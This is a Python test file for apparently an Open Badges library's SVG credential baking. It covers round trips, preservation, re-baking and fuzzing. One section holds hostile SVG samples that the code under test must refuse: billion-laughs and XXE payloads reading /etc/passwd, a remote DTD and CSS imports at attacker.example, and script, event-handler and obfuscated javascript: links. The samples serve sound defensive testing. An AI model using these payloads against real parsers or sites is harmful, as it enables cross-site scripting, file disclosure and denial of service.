"""SVG baking: round trips, the document is preserved, re-baking, hostile SVGs refused fast, fuzzing."""

from __future__ import annotations

import contextlib
import json
import time
import xml.etree.ElementTree as ET

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from insignia.credentials.baking import bake, sniff_image_type, unbake
from insignia.credentials.baking.svg import (
    OB2_SVG_NS,
    OB3_SVG_NS,
    bake_svg,
    check_svg_safe,
    is_svg_safe,
    unbake_svg,
)
from insignia.credentials.errors import BakingError

BADGE = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with a vector editor; a badge for the Insignia test suite -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     width="200" height="200" viewBox="0 0 200 200" version="1.1" inkscape:version="1.3">
  <title>Data Steward — Level 1</title>
  <defs>
    <linearGradient id="ribbon" x1="0" y1="0" x2="0" y2="1">
      <stop offset="0" stop-color="#1d4ed8"/>
      <stop offset="1" stop-color="#1e3a8a"/>
    </linearGradient>
    <path id="star" d="M10 0 L13 7 L20 7 L14 12 L16 20 L10 15 L4 20 L6 12 L0 7 L7 7 Z"/>
    <style type="text/css"><![CDATA[ .label { font: bold 14px sans-serif; fill: #fff; } ]]></style>
  </defs>
  <!-- the medal -->
  <circle cx="100" cy="100" r="90" fill="url(#ribbon)" stroke="#fbbf24" stroke-width="6"/>
  <use xlink:href="#star" x="90" y="40"/>
  <image width="4" height="4" href="data:image/png;base64,iVBORw0KGgo="/>
  <a href="https://example.org/badges/data-steward"><text x="100" y="120" class="label"
     text-anchor="middle">Données ✓</text></a>
</svg>
"""
OB3_JSON = json.dumps({"id": "urn:uuid:1", "name": "CDATA end ]]> inside, ünïcode 🏅"}, ensure_ascii=False)
JWS = "eyJhbGciOiJFZERTQSJ9.eyJpc3MiOiJkaWQ6ZXhhbXBsZToxIn0.c2lnbmF0dXJl"
OB2_URL = "https://example.org/assertions/abc?x=1&y=2"
OB2_JSON = json.dumps({"@context": "https://w3id.org/openbadges/v2", "type": "Assertion", "id": OB2_URL})


def credential_elements(svg: bytes) -> list[ET.Element]:
    root = ET.fromstring(svg)
    return [el for el in root.iter() if el.tag in (f"{{{OB3_SVG_NS}}}credential", f"{{{OB2_SVG_NS}}}assertion")]


def code_of(function: object, *args: object, **kwargs: object) -> str:
    with pytest.raises(BakingError) as info:
        function(*args, **kwargs)  # type: ignore[operator]
    return info.value.code


# Round trips and layout -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("payload", "flavour", "kind"),
    [(OB3_JSON, "ob3", "json"), (JWS, "ob3", "jwt"), (OB2_URL, "ob2", "url"), (OB2_JSON, "ob2", "json"),
     (JWS, "ob2", "jwt")],
)
def test_round_trip(payload: str, flavour: str, kind: str) -> None:
    baked = bake_svg(BADGE, payload, flavour=flavour)
    result = unbake_svg(baked)
    assert (result.text, result.flavour, result.kind, result.container) == (payload, flavour, kind, "svg")
    assert unbake(baked) == result


def test_ob3_json_goes_in_cdata_right_after_the_svg_start_tag() -> None:
    baked = bake_svg(BADGE, OB3_JSON).decode("utf-8")
    start = baked.index("<svg ")
    tag_end = baked.index(">", start) + 1
    assert baked[start:tag_end].endswith(f' xmlns:openbadges="{OB3_SVG_NS}">')
    assert baked[tag_end:].startswith("<openbadges:credential><![CDATA[")
    elements = credential_elements(baked.encode())
    assert len(elements) == 1
    assert elements[0].text == OB3_JSON
    assert "verify" not in elements[0].attrib


def test_jwt_goes_in_the_verify_attribute() -> None:
    baked = bake_svg(BADGE, JWS).decode("utf-8")
    assert f'<openbadges:credential verify="{JWS}"></openbadges:credential>' in baked
    (element,) = credential_elements(baked.encode())
    assert element.get("verify") == JWS


def test_ob2_uses_the_openbadges_org_namespace_and_escapes_the_url() -> None:
    baked = bake_svg(BADGE, OB2_URL, flavour="ob2").decode("utf-8")
    assert f'xmlns:openbadges="{OB2_SVG_NS}"' in baked
    assert 'verify="https://example.org/assertions/abc?x=1&amp;y=2"' in baked
    (element,) = credential_elements(baked.encode())
    assert element.get("verify") == OB2_URL


def test_the_rest_of_the_document_is_preserved_byte_for_byte() -> None:
    baked = bake_svg(BADGE, JWS).decode("utf-8")
    inserted = f' xmlns:openbadges="{OB3_SVG_NS}">' + f'<openbadges:credential verify="{JWS}"></openbadges:credential>'
    assert baked.replace(inserted, ">", 1) == BADGE
    assert baked.startswith('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created')


def test_rebaking_replaces_the_element_and_the_namespace() -> None:
    once = bake_svg(BADGE, OB2_JSON, flavour="ob2")
    twice = bake_svg(once, JWS, flavour="ob3")
    thrice = bake_svg(twice, OB3_JSON, flavour="ob3")
    for baked in (twice, thrice):
        assert len(credential_elements(baked)) == 1
        assert baked.count(b"xmlns:openbadges=") == 1
        assert OB2_SVG_NS.encode() not in baked
    assert unbake_svg(thrice).text == OB3_JSON
    assert bake_svg(thrice, OB3_JSON) == thrice


def test_rebaking_removes_credentials_anywhere_in_the_document() -> None:
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="{OB2_SVG_NS}">'
        f'<ob:assertion verify="{JWS}"/><g><ob:assertion><![CDATA[{OB2_JSON}]]></ob:assertion></g></svg>'
    )
    assert code_of(unbake_svg, svg) == "multiple_credentials"
    baked = bake_svg(svg, JWS)
    assert len(credential_elements(baked)) == 1
    assert b"<g></g>" in baked


def test_self_closing_and_prefixed_roots() -> None:
    baked = bake_svg('<svg xmlns="http://www.w3.org/2000/svg" width="1" />', JWS)
    assert baked.endswith(b"</openbadges:credential></svg>")
    prefixed = '\ufeff<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:g/></s:svg>'.encode()
    assert sniff_image_type(prefixed) == "svg"
    assert unbake(bake(prefixed, JWS)).text == JWS


def test_reads_an_ob2_hosted_badge_with_url_and_json() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        f'<openbadges:assertion verify="{OB2_URL.replace("&", "&amp;")}">\n<![CDATA[\n{OB2_JSON}\n]]>\n'
        "</openbadges:assertion><circle r='1'/></svg>"
    )
    result = unbake_svg(svg)
    assert (result.text, result.flavour, result.kind) == (OB2_JSON, "ob2", "json")


def test_reads_non_utf8_but_only_bakes_utf8() -> None:
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"><title>Caf\xe9</title></svg>'
    data = latin.encode("latin-1")
    assert code_of(unbake_svg, data) == "no_credential"
    assert code_of(bake_svg, data, JWS) == "svg_encoding"
    utf16 = BADGE.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert code_of(unbake_svg, utf16) == "no_credential"
    assert code_of(bake_svg, utf16, JWS) == "svg_encoding"


def test_payload_checks() -> None:
    assert code_of(bake_svg, BADGE, OB2_URL) == "payload_invalid"  # OB 3.0 never bakes a URL
    assert code_of(bake_svg, BADGE, JWS, kind="json") == "payload_invalid"
    assert code_of(bake_svg, BADGE, '{"a": "\x01"}') == "payload_invalid"
    assert code_of(bake, BADGE.encode(), JWS, flavour="ob1") == "payload_invalid"


# Hostile SVGs -------------------------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("svg", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY], ids=["billion-laughs", "xxe", "param"])
@pytest.mark.parametrize("function", [unbake_svg, check_svg_safe, lambda s: bake_svg(s, JWS)])
def test_entity_attacks_fail_fast(svg: str, function: object) -> None:
    start = time.perf_counter()
    assert code_of(function, svg) == "svg_dtd_forbidden"
    assert time.perf_counter() - start < 20  # hang guard, not a speed test


def test_undefined_entity_is_malformed() -> None:
    assert code_of(unbake_svg, '<svg xmlns="http://www.w3.org/2000/svg"><text>&nbsp;</text></svg>') == "svg_malformed"


def _svg(inner: str, attrs: str = "") -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {attrs}>'
        f'<openbadges:credential xmlns:openbadges="{OB3_SVG_NS}" verify="{JWS}"/>{inner}</svg>'
    )


HOSTILE = {
    "script": _svg("<script>alert(1)</script>"),
    "script-namespaced": _svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "onload": _svg("", 'onload="alert(1)"'),
    "onclick-nested": _svg('<g><rect onClick="alert(1)"/></g>'),
    "javascript-href": _svg('<a href="javascript:alert(1)"><text>x</text></a>'),
    "javascript-obfuscated": _svg('<a xlink:href=" jav&#x09;ascript:alert(1)"><text>x</text></a>'),
    "data-html-href": _svg('<a href="data:text/html;base64,PHNjcmlwdD4="><text>x</text></a>'),
    "foreign-object": _svg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'),
    "external-image": _svg('<image xlink:href="https://tracker.example/pixel.png"/>'),
    "external-use": _svg('<use href="http://attacker.example/sprite.svg#icon"/>'),
    "relative-use": _svg('<use href="other.svg#icon"/>'),
    "svg-data-image": _svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
    "set-href": _svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
    "set-onclick": _svg('<rect><set attributeName="onclick" to="alert(1)"/></rect>'),
    "animate-values": _svg('<a><animate attributeName="href" values="#a;javascript:alert(1)"/></a>'),
    "css-import": _svg('<style>@import url("https://attacker.example/x.css");</style>'),
    "css-remote-url": _svg('<rect style="fill: url(https://attacker.example/p.svg#g)"/>'),
    "remote-fill": _svg('<rect fill="url(http://attacker.example/p.svg#g)"/>'),
    "stylesheet-pi": '<?xml-stylesheet href="https://attacker.example/x.css"?>' + _svg(""),
    "iframe": _svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://x.example"/>'),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_svgs_are_refused(name: str) -> None:
    svg = HOSTILE[name]
    assert code_of(unbake_svg, svg) == "svg_unsafe"
    assert code_of(bake_svg, svg, JWS) == "svg_unsafe"
    assert code_of(check_svg_safe, svg) == "svg_unsafe"
    assert is_svg_safe(svg) is False


def test_safe_badge_passes() -> None:
    check_svg_safe(BADGE)
    assert is_svg_safe(BADGE)
    assert is_svg_safe(_svg("")) is True


@pytest.mark.parametrize(
    ("svg", "code"),
    [
        ('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "svg_not_svg"),
        ('<svg xmlns="http://example.org/not-svg"/>', "svg_not_svg"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', "svg_malformed"),
        ('<svg xmlns="http://www.w3.org/2000/svg">', "svg_malformed"),
        ("", "svg_malformed"),
        ('<svg xmlns="http://www.w3.org/2000/svg"/><svg/>', "svg_malformed"),
        ('<svg xmlns="http://www.w3.org/2000/svg"/>', "no_credential"),
        (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="{OB3_SVG_NS}"><o:credential/></svg>', "no_credential"),
        (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="{OB3_SVG_NS}"><o:credential verify="hi"/></svg>',
         "payload_unrecognised"),
    ],
)
def test_refusals(svg: str, code: str) -> None:
    assert code_of(unbake_svg, svg) == code


def test_size_limit() -> None:
    assert code_of(unbake_svg, BADGE, max_bytes=100) == "svg_too_large"
    assert code_of(bake_svg, BADGE, JWS, max_bytes=100) == "svg_too_large"


def test_deep_nesting_is_handled() -> None:
    deep = '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * 50_000 + "</g>" * 50_000 + "</svg>"
    assert code_of(unbake_svg, deep) in {"no_credential", "svg_malformed"}


def test_sniff() -> None:
    assert sniff_image_type(BADGE.encode()) == "svg"
    assert sniff_image_type(b"  <svg>") == "svg"
    assert sniff_image_type(b'{"svg": "<svg>"}') is None
    assert sniff_image_type(b"<html><svg></svg></html>") is None
    assert sniff_image_type(b"") is None


# Fuzzing ------------------------------------------------------------------------------------------------------

BAKED = bake_svg(BADGE, OB3_JSON)
FUZZ = settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _only_baking_errors(data: bytes | str) -> None:
    for call in (unbake_svg, check_svg_safe, lambda d: bake_svg(d, JWS)):
        with contextlib.suppress(BakingError):
            call(data)


@FUZZ
@given(st.binary(max_size=1024))
def test_fuzz_random_bytes(data: bytes) -> None:
    _only_baking_errors(data)


@FUZZ
@given(st.text(alphabet=st.sampled_from(list("<>/=\"' !?[]-&;#:xmlnsvgopenbadgescredentialCDATA{}\n")), max_size=300))
def test_fuzz_markup_like_text(text: str) -> None:
    _only_baking_errors(f'<svg xmlns="http://www.w3.org/2000/svg">{text}</svg>')
    _only_baking_errors(text)


@FUZZ
@given(st.lists(st.tuples(st.integers(0, len(BAKED) - 1), st.integers(0, 255)), min_size=1, max_size=6))
def test_fuzz_mutated_baked_svg(edits: list[tuple[int, int]]) -> None:
    data = bytearray(BAKED)
    for position, value in edits:
        data[position] = value
    _only_baking_errors(bytes(data))
